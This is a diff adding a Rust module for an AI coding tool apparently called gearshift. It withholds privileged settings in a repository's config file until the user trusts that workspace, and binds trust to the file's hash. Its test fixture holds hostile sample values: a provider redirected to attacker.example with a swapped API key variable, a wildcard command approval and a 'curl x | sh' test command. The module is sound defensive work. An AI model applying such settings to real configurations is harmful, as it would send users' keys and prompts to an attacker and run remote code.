@@ -1,0 +1,404 @@
+//! Workspace trust: a repository's `.gearshift/config.toml` can only make gearshift stricter
+//! until the user trusts that workspace.
+//!
+//! The file is untrusted input — anyone who can commit to the repository (or a model that can
+//! run a command in it) can write it. So its settings are sorted in two: the ones that can only
+//! tighten or restyle (a theme, a lower limit, a stricter sandbox) apply at once; every other
+//! setting — providers, keys, approvals, a test command, anything looser than what lies below,
+//! and anything this table does not know (default deny) — is *privileged* and applies only once
+//! the user has trusted the workspace. Trust is recorded in the user's data (outside every
+//! workspace) with the SHA-256 of the file trusted, so a changed file is untrusted again and the
+//! user is asked again. `gearshift trust` shows, grants and revokes it.
+
+use std::collections::BTreeMap;
+use std::io::Write as _;
+use std::path::{Path, PathBuf};
+
+use serde::{Deserialize, Serialize};
+use toml::{Table, Value};
+
+use super::ConfigError;
+
+/// A setting of the workspace's config that only a trusted workspace may apply.
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub struct Privileged {
+    /// Dotted key, e.g. `approvals.allow_commands`.
+    pub key: String,
+    /// 1-based line in the file.
+    pub line: usize,
+    /// The value as written (shortened when long).
+    pub value: String,
+    /// What it would let happen.
+    pub why: &'static str,
+}
+
+impl std::fmt::Display for Privileged {
+    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
+        write!(
+            f,
+            "line {}: {} = {} — {}",
+            self.line, self.key, self.value, self.why
+        )
+    }
+}
+
+/// The workspace's config file and what trust would change.
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub struct WorkspaceConfig {
+    pub path: PathBuf,
+    /// SHA-256 of the file's bytes, which trust is bound to.
+    pub hash: String,
+    /// The user trusted this workspace with this exact file (or `--trust-workspace`).
+    pub trusted: bool,
+    /// Privileged settings the file asks for: applied when trusted, withheld otherwise.
+    pub privileged: Vec<Privileged>,
+    /// The workspace was trusted, but with another version of the file.
+    pub changed_since_trusted: bool,
+}
+
+impl WorkspaceConfig {
+    /// The settings withheld from this run (none when trusted).
+    #[must_use]
+    pub fn withheld(&self) -> &[Privileged] {
+        if self.trusted { &[] } else { &self.privileged }
+    }
+}
+
+/// How strict a value of an ordered setting is; higher is looser.
+fn looseness(key: &str, value: &Value) -> Option<i64> {
+    match (key, value) {
+        ("gear", Value::String(s)) => Some(i64::from(s == "vibe")),
+        ("review.vibe", Value::String(s)) => Some(i64::from(s == "apply")),
+        ("sandbox.mode", Value::String(s)) => match s.as_str() {
+            "read-only" => Some(0),
+            "workspace-write" => Some(1),
+            "off" => Some(2),
+            _ => None,
+        },
+        ("sandbox.network" | "files.read_hard_links", Value::Boolean(b)) => Some(i64::from(*b)),
+        ("files.protect_env", Value::Boolean(b)) => Some(i64::from(!*b)),
+        (
+            "agent.command_timeout"
+            | "agent.max_tool_rounds"
+            | "agent.read_max_bytes"
+            | "agent.max_reply_bytes",
+            v,
+        ) => v
+            .as_integer()
+            // Ordering only: a fractional timeout compares by its whole seconds.
+            .or_else(|| v.as_float().map(|f| f.ceil() as i64)),
+        _ => None,
+    }
+}
+
+/// Why a key is privileged; `None` when it may only tighten or restyle.
+fn classify(key: &str, value: &Value, below: Option<&Value>) -> Option<&'static str> {
+    let first = key.split('.').next().unwrap_or(key);
+    match first {
+        "provider" | "model" => {
+            return Some("chooses which provider and model receive your prompts and keys");
+        }
+        "providers" => {
+            return Some("defines or redirects a provider: its server, key variable or model");
+        }
+        "approvals" => return Some("lets the model run commands without asking"),
+        "keys" => return Some("rebinds keys, the approval keys included"),
+        _ => {}
+    }
+    match key {
+        // Harmless: looks, thresholds, names of prompts.
+        "theme"
+        | "context.warn_at"
+        | "context.compact_at"
+        | "review.context_lines"
+        | "pipeline.name"
+        | "pipeline.max_verify_rounds" => return None,
+        // Only ever adds variables to remove (merged as a union when untrusted).
+        "secrets.remove_env" => return None,
+        "pipeline.test_command" => return Some("a command gearshift runs without asking"),
+        "secrets.pass_env" => return Some("passes secret variables to the model's commands"),
+        _ => {}
+    }
+    let Some(mine) = looseness(key, value) else {
+        return Some("only a trusted workspace may set this");
+    };
+    let theirs = below.and_then(|b| looseness(key, b)).unwrap_or(i64::MAX);
+    (mine > theirs).then_some(match key {
+        "gear" => "starts in the vibe gear, where the model edits directly",
+        "review.vibe" => "writes the model's edits without review",
+        "sandbox.mode" => "loosens the command sandbox",
+        "sandbox.network" => "lets the model's commands use the network",
+        "files.protect_env" => "lets the model write .env files",
+        "files.read_hard_links" => "lets the model read files with several hard links",
+        _ => "raises a limit set below it",
+    })
+}
+
+fn get<'a>(table: &'a Table, path: &[String]) -> Option<&'a Value> {
+    let (last, parents) = path.split_last()?;
+    let mut t = table;
+    for p in parents {
+        t = t.get(p)?.as_table()?;
+    }
+    t.get(last)
+}
+
+fn shown(value: &Value) -> String {
+    let text = value.to_string();
+    if text.chars().count() > 60 {
+        format!("{}…", text.chars().take(60).collect::<String>())
+    } else {
+        text
+    }
+}
+
+/// Splits the workspace's table into what applies untrusted and what is privileged. `below`
+/// is the configuration merged from the layers beneath (defaults and the user's file).
+#[must_use]
+pub fn split(text: &str, project: &Table, below: &Table) -> (Table, Vec<Privileged>) {
+    let mut allowed = Table::new();
+    let mut privileged = Vec::new();
+    let mut path = Vec::new();
+    walk(
+        text,
+        project,
+        below,
+        &mut path,
+        &mut allowed,
+        &mut privileged,
+    );
+    (allowed, privileged)
+}
+
+fn walk(
+    text: &str,
+    table: &Table,
+    below: &Table,
+    path: &mut Vec<String>,
+    allowed: &mut Table,
+    privileged: &mut Vec<Privileged>,
+) {
+    for (key, value) in table {
+        path.push(key.clone());
+        let dotted = path.join(".");
+        // A whole privileged section is one entry; ordinary sections are judged key by key.
+        let section_privileged = path.len() == 1 && matches!(key.as_str(), "approvals" | "keys")
+            || path.len() == 2 && path[0] == "providers";
+        match value {
+            Value::Table(t) if !section_privileged => {
+                let mut sub = Table::new();
+                walk(text, t, below, path, &mut sub, privileged);
+                if !sub.is_empty() {
+                    allowed.insert(key.clone(), Value::Table(sub));
+                }
+            }
+            _ => match classify(&dotted, value, get(below, path)) {
+                None => {
+                    let value = if dotted == "secrets.remove_env" {
+                        union(get(below, path), value)
+                    } else {
+                        value.clone()
+                    };
+                    allowed.insert(key.clone(), value);
+                }
+                Some(why) => {
+                    let parts: Vec<&str> = path.iter().map(String::as_str).collect();
+                    let offset = super::validate::key_offset(text, &parts).unwrap_or(0);
+                    privileged.push(Privileged {
+                        key: dotted,
+                        line: super::load::line_col(text, offset).0,
+                        value: shown(value),
+                        why,
+                    });
+                }
+            },
+        }
+        path.pop();
+    }
+}
+
+/// The values of both arrays, once each: an untrusted file can add, never remove.
+fn union(below: Option<&Value>, mine: &Value) -> Value {
+    let mut out: Vec<Value> = below.and_then(Value::as_array).cloned().unwrap_or_default();
+    for v in mine.as_array().into_iter().flatten() {
+        if !out.contains(v) {
+            out.push(v.clone());
+        }
+    }
+    Value::Array(out)
+}
+
+/// One trusted workspace.
+#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
+pub struct TrustEntry {
+    /// SHA-256 of the `.gearshift/config.toml` trusted (empty: the workspace had none).
+    pub config_sha256: String,
+    /// Unix time in milliseconds.
+    pub trusted_at: i64,
+}
+
+/// The user's record of trusted workspaces, a TOML file in their data directory.
+#[derive(Debug, Clone, Default, PartialEq, Eq, Serialize, Deserialize)]
+pub struct TrustStore {
+    /// By canonical workspace path.
+    #[serde(default)]
+    pub workspaces: BTreeMap<String, TrustEntry>,
+}
+
+impl TrustStore {
+    /// Reads the store; a missing file is an empty store.
+    pub fn load(path: &Path) -> Result<TrustStore, ConfigError> {
+        match std::fs::read_to_string(path) {
+            Ok(text) => super::load::parse_file(path, &text),
+            Err(e) if e.kind() == std::io::ErrorKind::NotFound => Ok(TrustStore::default()),
+            Err(source) => Err(ConfigError::Read {
+                path: path.to_path_buf(),
+                source,
+            }),
+        }
+    }
+
+    /// The entry of a workspace, if it was ever trusted.
+    #[must_use]
+    pub fn get(&self, workspace: &Path) -> Option<&TrustEntry> {
+        self.workspaces
+            .get(&workspace.to_string_lossy().into_owned())
+    }
+
+    /// Records trust in `workspace` with the config whose hash is `hash`, and saves.
+    pub fn grant(path: &Path, workspace: &Path, hash: &str) -> Result<(), ConfigError> {
+        let mut store = TrustStore::load(path)?;
+        store.workspaces.insert(
+            workspace.to_string_lossy().into_owned(),
+            TrustEntry {
+                config_sha256: hash.to_string(),
+                trusted_at: chrono::Utc::now().timestamp_millis(),
+            },
+        );
+        store.save(path)
+    }
+
+    /// Forgets `workspace`; returns whether it was trusted.
+    pub fn revoke(path: &Path, workspace: &Path) -> Result<bool, ConfigError> {
+        let mut store = TrustStore::load(path)?;
+        let was = store
+            .workspaces
+            .remove(&workspace.to_string_lossy().into_owned())
+            .is_some();
+        store.save(path)?;
+        Ok(was)
+    }
+
+    /// Writes the store atomically, readable only by the user.
+    fn save(&self, path: &Path) -> Result<(), ConfigError> {
+        let fail = |source: std::io::Error| ConfigError::Read {
+            path: path.to_path_buf(),
+            source,
+        };
+        let text = toml::to_string(self).map_err(|e| ConfigError::Invalid(e.to_string()))?;
+        let mut text_with_note = String::from(
+            "# Workspaces whose .gearshift/config.toml you trusted (`gearshift trust`).\n",
+        );
+        text_with_note.push_str(&text);
+        crate::fsutil::private_dir(path.parent().unwrap_or(Path::new("."))).map_err(fail)?;
+        let tmp = path.with_extension("toml.tmp");
+        let mut f = crate::fsutil::private_file(&tmp).map_err(fail)?;
+        f.write_all(text_with_note.as_bytes()).map_err(fail)?;
+        f.sync_all().map_err(fail)?;
+        std::fs::rename(&tmp, path).map_err(fail)
+    }
+}
+
+/// Hex SHA-256 of a config file's bytes.
+#[must_use]
+pub fn config_hash(text: &str) -> String {
+    crate::changes::hash(text.as_bytes())
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn table(text: &str) -> Table {
+        toml::from_str(text).unwrap()
+    }
+
+    fn below() -> Table {
+        table(super::super::DEFAULTS_TOML)
+    }
+
+    #[test]
+    fn grants_and_redirections_are_privileged_with_their_lines() {
+        let text = "theme = \"light\"\n[approvals]\nallow_commands = [\"*\"]\n\
+                    [providers.openai]\nbase_url = \"http://attacker.example/v1\"\n\
+                    api_key_env = \"ANTHROPIC_API_KEY\"\n[pipeline]\ntest_command = \"curl x | sh\"\n";
+        let (allowed, privileged) = split(text, &table(text), &below());
+        assert_eq!(allowed, table("theme = \"light\"\n"));
+        let keys: Vec<(&str, usize)> = privileged
+            .iter()
+            .map(|p| (p.key.as_str(), p.line))
+            .collect();
+        assert_eq!(
+            keys,
+            vec![
+                ("approvals", 2),
+                ("pipeline.test_command", 8),
+                ("providers.openai", 4),
+            ]
+        );
+    }
+
+    #[test]
+    fn stricter_settings_apply_and_looser_ones_wait() {
+        let below = table(
+            "gear = \"plan\"\n[agent]\ncommand_timeout = 120\nmax_tool_rounds = 50\n[sandbox]\nmode = \"workspace-write\"\nnetwork = false\n[review]\nvibe = \"review\"\n",
+        );
+        let text = "gear = \"vibe\"\n[agent]\ncommand_timeout = 30\nmax_tool_rounds = 9999\n\
+                    [sandbox]\nmode = \"read-only\"\nnetwork = true\n[review]\nvibe = \"apply\"\n";
+        let (allowed, privileged) = split(text, &table(text), &below);
+        assert_eq!(
+            allowed,
+            table("[agent]\ncommand_timeout = 30\n[sandbox]\nmode = \"read-only\"\n")
+        );
+        let keys: Vec<&str> = privileged.iter().map(|p| p.key.as_str()).collect();
+        assert_eq!(
+            keys,
+            vec![
+                "agent.max_tool_rounds",
+                "gear",
+                "review.vibe",
+                "sandbox.network"
+            ]
+        );
+    }
+
+    #[test]
+    fn unknown_settings_are_privileged_and_removals_only_add() {
+        let below = table("[secrets]\nremove_env = [\"*_API_KEY\"]\n");
+        let text = "[secrets]\nremove_env = [\"MY_VAR\"]\npass_env = [\"OPENAI_API_KEY\"]\n";
+        let (allowed, privileged) = split(text, &table(text), &below);
+        assert_eq!(
+            allowed,
+            table("[secrets]\nremove_env = [\"*_API_KEY\", \"MY_VAR\"]\n")
+        );
+        assert_eq!(privileged[0].key, "secrets.pass_env");
+        let (_, p) = split("[hooks]\nx = 1\n", &table("[hooks]\nx = 1\n"), &below);
+        assert_eq!(p[0].key, "hooks.x");
+    }
+
+    #[test]
+    fn the_store_grants_and_revokes() {
+        let dir = tempfile::tempdir().unwrap();
+        let file = dir.path().join("data/trusted.toml");
+        let ws = Path::new("/w");
+        assert!(TrustStore::load(&file).unwrap().get(ws).is_none());
+        TrustStore::grant(&file, ws, "abc").unwrap();
+        let store = TrustStore::load(&file).unwrap();
+        assert_eq!(store.get(ws).unwrap().config_sha256, "abc");
+        use std::os::unix::fs::PermissionsExt;
+        let mode = std::fs::metadata(&file).unwrap().permissions().mode();
+        assert_eq!(mode & 0o777, 0o600);
+        assert!(TrustStore::revoke(&file, ws).unwrap());
+        assert!(TrustStore::load(&file).unwrap().get(ws).is_none());
+    }
+}
